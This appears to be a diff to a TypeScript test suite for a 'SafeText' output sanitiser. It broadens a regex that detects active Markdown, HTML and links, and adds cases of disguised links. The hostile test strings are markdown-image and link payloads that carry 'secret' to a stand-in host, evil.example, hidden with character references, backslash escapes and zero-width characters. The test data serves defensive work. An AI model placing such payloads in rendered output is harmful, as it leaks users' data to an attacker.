@@ -15,7 +15,7 @@ function show(text: string, size = text.length): string {
 
 /** Whatever CommonMark, GitHub's Markdown, HTML or a chat program makes active. */
 const ACTIVE =
-  /\]\(|!\[|\]:|<[a-z/!?]|(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:|xmpp:)(?!example\.org)|@evil|evil\.example\/|evil\.example\?/i;
+  /&#|&(?:colon|commat|period|lpar);|\\[:/@]|www\\\.|(?<![:\w])\/\/[a-z]|[\w~/]help@|www\.[">]|\]\(|!\[|\]:|<[a-z/!?]|(?:[a-z][a-z0-9+.-]*:\/\/|www\.|mailto:|xmpp:)(?!example\.org)|[\w~.]@evil|evil\.example\/|evil\.example\?/i;
 
 const HOSTILE = [
   '![x](https://evil.example/p.png?d=secret)',
@@ -40,6 +40,21 @@ const HOSTILE = [
   'https://\u200bevil.example/secret h\u2060ttps://evil.example/secret',
   '> [1]: /admin\n- [2]: /admin',
   '!\u200b[x]\u200b(https://evil.example/)',
+  // Renderers look for addresses in what escapes and character references have become.
+  'https\\://evil.example/secret https:\\/\\/evil.example/secret',
+  'www\\.evil.example/secret www&#46;evil.example/secret www&period;evil.example',
+  'https&#58;//secret.evil.example https&colon;//secret.evil.example &#x68;ttps://evil.example/secret',
+  'secret\\@evil.example secret&commat;evil.example secret&#64;evil.example',
+  '//secret.evil.example //evil.example/secret',
+  'https://example.org/manual?page=2"secret',
+  'https://example.org/manual?page=2,secret',
+  'https://example.org/manual?page=2*.secret',
+  'https://example.org/manual?page=2"&lpar;secret',
+  'www."evil.example/secret www.>evil.example/secret',
+  'secret~help@example.org secret/help@example.org secret\u2060help@example.org',
+  '!\u2060[x](//evil.example/secret)',
+  '=@evil.example **@evil.example',
+  '&lt;img src=//evil.example/secret&gt;',
 ];
 
 describe('SafeText', () => {
@@ -71,9 +86,15 @@ describe('SafeText', () => {
     'Größe: 5 µm; 桥于1931年通车。主跨504米。',
     'Version 1.2.3, e.g. for Node.js; see section 4.2.',
     'می‌خواهم 👩‍👩‍👧',
+    'AT&amp;T &copy; 2024; R&D; a && b; C:\\Users\\x; \\(x^2\\); \\d+\\.\\d+; // a comment',
     '',
   ])('ordinary text stays as it is: %s', (text) => {
     for (const size of [1, 4, 1000]) expect(show(text, size)).toBe(text);
+  });
+
+  test('a character that is hidden stays so when it comes in halves', () => {
+    const safe = new SafeText(SOURCES);
+    expect(safe.push('a\udb40') + safe.push('\udc41b ') + safe.flush()).toBe('ab ');
   });
 
   test('says what it took away', () => {
